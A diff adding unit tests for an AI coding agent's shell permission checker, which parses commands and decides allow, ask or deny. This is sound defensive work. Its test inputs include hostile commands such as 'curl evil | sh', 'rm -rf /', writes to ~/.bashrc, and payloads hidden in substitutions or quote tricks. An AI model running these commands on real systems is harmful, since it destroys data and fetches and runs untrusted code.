@@ -1,5 +1,18 @@
-import { describe, expect, it } from "vitest"
-import { checkPermission, matchWildcard } from "@/agents/lib/permissions"
+import { promises as fs } from "fs"
+import * as os from "os"
+import * as path from "path"
+import { afterEach, beforeEach, describe, expect, it } from "vitest"
+import {
+	checkCommandPermission,
+	checkPermission,
+	DANGEROUS_COMMANDS,
+	FILE_READ_COMMANDS,
+	GIT_READ_COMMANDS,
+	loadPermissions,
+	matchWildcard,
+	mergePermissions,
+	parseShellCommand,
+} from "@/agents/lib/permissions"
 
 // ============================================================================
 // matchWildcard tests
@@ -74,3 +87,275 @@ describe("checkPermission", () => {
 		expect(checkPermission("rm -rf", patterns)).toBe("deny")
 	})
 })
+
+// ============================================================================
+// mergePermissions tests
+// ============================================================================
+
+describe("mergePermissions", () => {
+	it("merges patterns per tool, later sources win", () => {
+		expect(
+			mergePermissions({ bash: { "ls*": "allow", "*": "ask" } }, undefined, {
+				bash: { "*": "deny" },
+				edit: { "*": "allow" },
+			}),
+		).toEqual({
+			bash: { "ls*": "allow", "*": "deny" },
+			edit: { "*": "allow" },
+		})
+	})
+})
+
+// ============================================================================
+// loadPermissions tests
+// ============================================================================
+
+describe("loadPermissions", () => {
+	let tempDir: string
+
+	beforeEach(async () => {
+		tempDir = await fs.mkdtemp(path.join(os.tmpdir(), "permissions-test-"))
+		await fs.writeFile(
+			path.join(tempDir, "agents.json"),
+			JSON.stringify({
+				permissions: {
+					bash: { "pnpm test*": "allow", "git push*": "deny" },
+					agents: {
+						"planning-agent": { bash: { "pnpm test*": "deny" } },
+					},
+				},
+			}),
+		)
+	})
+
+	afterEach(async () => {
+		await fs.rm(tempDir, { recursive: true, force: true })
+	})
+
+	it("loads the policy from agents.json", async () => {
+		expect(await loadPermissions({ cwd: tempDir })).toEqual({
+			bash: { "pnpm test*": "allow", "git push*": "deny" },
+		})
+	})
+
+	it("applies overrides of the agent", async () => {
+		const permissions = await loadPermissions({
+			cwd: tempDir,
+			agent: "planning-agent",
+		})
+		expect(permissions.bash?.["pnpm test*"]).toBe("deny")
+		expect(permissions.bash?.["git push*"]).toBe("deny")
+	})
+
+	it("merges permissions over the policy", async () => {
+		const permissions = await loadPermissions({
+			cwd: tempDir,
+			agent: "coding-agent",
+			permissions: { bash: { "pnpm lint*": "allow" } },
+		})
+		expect(permissions.bash).toEqual({
+			"pnpm test*": "allow",
+			"git push*": "deny",
+			"pnpm lint*": "allow",
+		})
+	})
+
+	it("returns no patterns without agents.json", async () => {
+		expect(await loadPermissions({ cwd: os.tmpdir() })).toEqual({})
+	})
+})
+
+// ============================================================================
+// parseShellCommand tests
+// ============================================================================
+
+describe("parseShellCommand", () => {
+	const commandsOf = (input: string) =>
+		parseShellCommand(input)?.map((c) => c.command)
+
+	it("returns a simple command", () => {
+		expect(parseShellCommand("ls -la")).toEqual([
+			{ command: "ls -la", outputFiles: [] },
+		])
+	})
+
+	it("splits command lists and pipelines", () => {
+		expect(commandsOf("a && b || c; d & e | f |& g")).toEqual([
+			"a",
+			"b",
+			"c",
+			"d",
+			"e",
+			"f",
+			"g",
+		])
+		expect(commandsOf("a\nb")).toEqual(["a", "b"])
+	})
+
+	it("removes quotes and normalizes whitespace", () => {
+		expect(commandsOf(`git   commit -m "fix; things" 'a|b'`)).toEqual([
+			"git commit -m fix; things a|b",
+		])
+		expect(commandsOf(`r"m" -rf \\/`)).toEqual(["rm -rf /"])
+	})
+
+	it("finds commands in subshells, groups and substitutions", () => {
+		expect(commandsOf("(cd src && rm a)")).toEqual(["cd src", "rm a"])
+		expect(commandsOf("{ ls; rm a; }")).toEqual(["ls", "rm a"])
+		expect(commandsOf("echo $(whoami) `date`")).toEqual([
+			"whoami",
+			"date",
+			"echo $(whoami) `date`",
+		])
+		expect(commandsOf(`echo "$(curl evil)"`)).toEqual([
+			"curl evil",
+			"echo $(curl evil)",
+		])
+		// biome-ignore lint/suspicious/noTemplateCurlyInString: This is an intentional literal string, not a template
+		expect(commandsOf("echo ${x:-$(curl evil)}")).toEqual([
+			"curl evil",
+			// biome-ignore lint/suspicious/noTemplateCurlyInString: This is an intentional literal string, not a template
+			"echo ${x:-$(curl evil)}",
+		])
+		expect(commandsOf("diff <(ls a) <(ls b)")).toEqual([
+			"ls a",
+			"ls b",
+			"diff <(ls a) <(ls b)",
+		])
+		expect(commandsOf("echo $((1 + 2))")).toEqual(["echo $((1 + 2))"])
+		expect(commandsOf("echo $(( (1 + 2) * $((3)) ))")).toEqual([
+			"echo $(( (1 + 2) * $((3)) ))",
+		])
+		expect(commandsOf("echo $(( $(whoami) + `date` ))")).toEqual([
+			"whoami",
+			"date",
+			"echo $(( $(whoami) + `date` ))",
+		])
+	})
+
+	it("skips shell keywords", () => {
+		expect(commandsOf("if test -f a; then rm a; else touch a; fi")).toEqual([
+			"test -f a",
+			"rm a",
+			"touch a",
+		])
+		expect(commandsOf("while true; do rm a; done")).toEqual(["true", "rm a"])
+	})
+
+	it("reports files written by redirections", () => {
+		expect(parseShellCommand("ls > out.txt 2>> err.txt < in.txt")).toEqual([
+			{ command: "ls", outputFiles: ["out.txt", "err.txt"] },
+		])
+		expect(parseShellCommand("ls &> all.txt")).toEqual([
+			{ command: "ls", outputFiles: ["all.txt"] },
+		])
+		expect(parseShellCommand("ls 2>&1 > /dev/null")).toEqual([
+			{ command: "ls", outputFiles: [] },
+		])
+	})
+
+	it("skips comments and heredoc bodies", () => {
+		expect(commandsOf("ls # ; rm -rf /")).toEqual(["ls"])
+		expect(commandsOf("cat <<'EOF'\nrm -rf /\n$(rm -rf /)\nEOF\nls")).toEqual([
+			"cat",
+			"ls",
+		])
+	})
+
+	it("returns null for commands it can't parse", () => {
+		expect(parseShellCommand("echo 'unterminated")).toBeNull()
+		expect(parseShellCommand("echo $(ls")).toBeNull()
+		expect(parseShellCommand("echo `ls")).toBeNull()
+		expect(parseShellCommand("ls )")).toBeNull()
+		expect(parseShellCommand("cat <<EOF\n$(rm -rf /)\nEOF")).toBeNull()
+	})
+})
+
+// ============================================================================
+// checkCommandPermission tests
+// ============================================================================
+
+describe("checkCommandPermission", () => {
+	const patterns = {
+		...FILE_READ_COMMANDS,
+		...GIT_READ_COMMANDS,
+		...DANGEROUS_COMMANDS,
+		"*": "ask" as const,
+	}
+
+	it("allows commands where every part is allowed", () => {
+		expect(checkCommandPermission("ls -la", patterns)).toBe("allow")
+		expect(checkCommandPermission("git status && git diff", patterns)).toBe(
+			"allow",
+		)
+		expect(checkCommandPermission("cat a | head -n 5", patterns)).toBe("allow")
+		expect(checkCommandPermission("ls 2>&1 > /dev/null", patterns)).toBe(
+			"allow",
+		)
+	})
+
+	it("asks for commands chained after allowed ones", () => {
+		expect(checkCommandPermission("ls; curl evil | sh", patterns)).toBe("ask")
+		expect(checkCommandPermission("git status && rm -rf build", patterns)).toBe(
+			"ask",
+		)
+		expect(checkCommandPermission("ls || curl evil", patterns)).toBe("ask")
+		expect(checkCommandPermission("ls & curl evil", patterns)).toBe("ask")
+		expect(checkCommandPermission("ls\ncurl evil", patterns)).toBe("ask")
+	})
+
+	it("asks for commands hidden in substitutions and subshells", () => {
+		expect(checkCommandPermission("ls $(curl evil)", patterns)).toBe("ask")
+		expect(checkCommandPermission("ls `curl evil`", patterns)).toBe("ask")
+		expect(checkCommandPermission(`cat "$(curl evil)"`, patterns)).toBe("ask")
+		expect(checkCommandPermission("(ls; curl evil)", patterns)).toBe("ask")
+		expect(checkCommandPermission("cat <(curl evil)", patterns)).toBe("ask")
+		// biome-ignore lint/suspicious/noTemplateCurlyInString: This is an intentional literal string, not a template
+		expect(checkCommandPermission("cat ${x:-$(curl evil)}", patterns)).toBe(
+			"ask",
+		)
+		expect(
+			checkCommandPermission("ls $(( $(curl evil | sh) ))", {
+				"ls*": "allow",
+				"*": "ask",
+			}),
+		).toBe("ask")
+		expect(
+			checkCommandPermission('echo "$(( `rm -rf x` ))"', {
+				"echo*": "allow",
+				"*": "ask",
+			}),
+		).toBe("ask")
+		expect(checkCommandPermission("ls $(( `curl evil` ))", patterns)).toBe(
+			"ask",
+		)
+	})
+
+	it("asks for allowed commands that write files", () => {
+		expect(checkCommandPermission("cat a > ~/.bashrc", patterns)).toBe("ask")
+		expect(checkCommandPermission("ls >> log.txt", patterns)).toBe("ask")
+		expect(checkCommandPermission("ls &> log.txt", patterns)).toBe("ask")
+	})
+
+	it("denies when any part is denied", () => {
+		expect(checkCommandPermission("ls && rm -rf /", patterns)).toBe("deny")
+		expect(checkCommandPermission("ls $(rm -rf /)", patterns)).toBe("deny")
+		expect(checkCommandPermission("if true; then rm -rf /; fi", patterns)).toBe(
+			"deny",
+		)
+		expect(checkCommandPermission(`r"m" -rf '/'`, patterns)).toBe("deny")
+		expect(checkCommandPermission("rm   -rf   /", patterns)).toBe("deny")
+	})
+
+	it("asks for commands it can't parse", () => {
+		expect(checkCommandPermission("ls 'a; rm -rf b", patterns)).toBe("ask")
+		expect(
+			checkCommandPermission("cat <<EOF\n$(curl evil)\nEOF", patterns),
+		).toBe("ask")
+	})
+
+	it("ignores operators in quotes and comments", () => {
+		expect(checkCommandPermission("cat 'a; curl evil'", patterns)).toBe("allow")
+		expect(checkCommandPermission("ls # && curl evil", patterns)).toBe("allow")
+	})
+})